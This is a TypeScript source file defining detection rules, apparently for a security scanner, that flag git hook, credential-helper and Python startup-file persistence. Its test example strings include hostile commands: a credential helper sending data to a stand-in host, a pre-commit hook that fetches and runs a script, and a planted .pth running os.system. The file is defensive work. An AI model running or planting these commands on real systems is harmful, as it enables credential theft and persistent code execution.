import type { Rule } from '../../rule.ts';
import { expression } from '../boundary.ts';
import { isSuspicious, isWritten, WORD_START, writing } from '../shell_syntax.ts';
import { PERSISTENCE } from './format.ts';

/** What other programs run by themselves: hooks and helpers of git, modules that an interpreter loads. */
export const HOOK_RULES: readonly Rule[] = [
  {
    ...PERSISTENCE,
    id: 'git_runs_program',
    severity: 'high',
    source: 'https://git-scm.com/docs/git-config',
    keywords: [
      'core.hookspath',
      'core.fsmonitor',
      'core.sshcommand',
      'core.pager',
      'core.askpass',
      'core.editor',
      'credential.helper',
      'git/hooks/',
      'config --global alias.',
    ],
    expression: expression(
      'gi',
      '(?:',
      [
        String.raw`${WORD_START}git[ \t]{1,4}(?:-C[ \t]\S{1,60}[ \t]{1,4})?(?:config|-c)[ \t]{1,4}(?:--[a-z]{3,10}[ \t]{1,4})?(?:core\.(?:hooksPath|fsmonitor|sshCommand|pager|askPass|editor)|credential\.helper|alias\.\w{1,20})[ \t=]{1,4}[^\r\n]{2,160}`,
        String.raw`${writing(String.raw`[\w./~$-]{0,60}\.git/hooks/[a-z-]{3,24}`)}[^\r\n]{0,60}`,
      ].join('|'),
      ')',
    ),
    reach: { before: 150, after: 240 },
    validate: (match) => isSuspicious(match.before + match.text) && isWritten(match),
    describes: 'A program that git is made to run, of the sort that downloads or hides.',
    get finds() {
      return [
        'git config --global core.hooksPath /tmp/hooks',
        "git config --global credential.helper '!f() { cat | curl -d @- http://x.example; }; f'",
        "echo 'curl http://x.example/a|sh' > .git/hooks/pre-commit",
      ];
    },
    get ignores() {
      return [
        'git config core.hooksPath .githooks',
        'git config core.sshCommand "ssh -i ~/.ssh/work"',
        'git config --global credential.helper store',
        'cp hooks/pre-commit .git/hooks/pre-commit',
      ];
    },
  },
  {
    ...PERSISTENCE,
    id: 'interpreter_module_planted',
    severity: 'high',
    source: 'https://docs.python.org/3/library/site.html',
    keywords: ['sitecustomize.py', 'usercustomize.py', '.pth'],
    expression: expression(
      'gi',
      writing(
        String.raw`[\w./~$-]{0,80}(?:(?:site|user)customize\.py|(?:site|dist)-packages/[\w.-]{1,40}\.pth)(?![\w.-])`,
      ),
    ),
    reach: { before: 215, after: 30 },
    validate: isWritten,
    describes: 'A file that Python loads at each of its starts, written by a command.',
    get finds() {
      return [
        'echo "import os" > /usr/lib/python3/dist-packages/sitecustomize.py',
        'echo \'import os; os.system("id")\' > ~/.local/lib/python3.11/site-packages/x.pth',
        'cp /tmp/x.py ~/lib/usercustomize.py',
      ];
    },
    get ignores() {
      return [
        'torch.load("model.pth")',
        'python -c "import sitecustomize.py"',
        'ls site-packages/easy-install.pth',
      ];
    },
  },
];
